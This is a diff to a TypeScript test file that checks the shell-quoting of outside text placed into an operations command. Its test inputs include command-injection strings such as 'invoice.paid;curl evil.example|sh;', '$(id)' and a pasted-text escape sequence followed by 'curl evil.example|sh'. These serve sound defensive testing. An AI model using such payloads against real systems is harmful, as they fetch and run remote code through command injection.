@@ -1,6 +1,6 @@
 import { expect, test } from 'bun:test'
 import { rules } from '#infra/books/rules/catalogue'
-import { commandFor } from './remedy'
+import { commandFor, shellWord } from './remedy'
 
 const payment = `pay_${'a'.repeat(22)}`
 const cashout = '0b7f5c1e-1111-2222-3333-444455556666'
@@ -40,4 +40,21 @@ test('security: text from outside is one word of the command, whatever it contai
   expect(command).toBe(
     `bun run ops unexplained accept 'invoice.paid;curl evil.example|sh;'\\''$(id)'\\''' --reason <why>`,
   )
+})
+
+const page = '../../services/gateway/console/page/dom.js' // Not TypeScript.
+const inConsole = (await import(page)) as { shellWord: (text: string) => string }
+
+test.each(['invoice.paid', "it's; id", 'a\u0003curl evil.example|sh', '\u001b[201~id\\', ''])(
+  'the commands and the console quote %j alike',
+  (text) => {
+    expect(shellWord(text)).toBe(inConsole.shellWord(text))
+  },
+)
+
+test('security: a command for an item with the end of a pasted text has only printable characters', () => {
+  const item = 'invoice\u001b[201~\u0003curl evil.example|sh\n'
+  const command = commandFor({ id: '7', rule: 'provider_unknown', item, amount: 1n })
+  expect(command).toStartWith('bun run ops unexplained accept "$(printf ')
+  expect(command).not.toMatch(/\p{C}/u)
 })
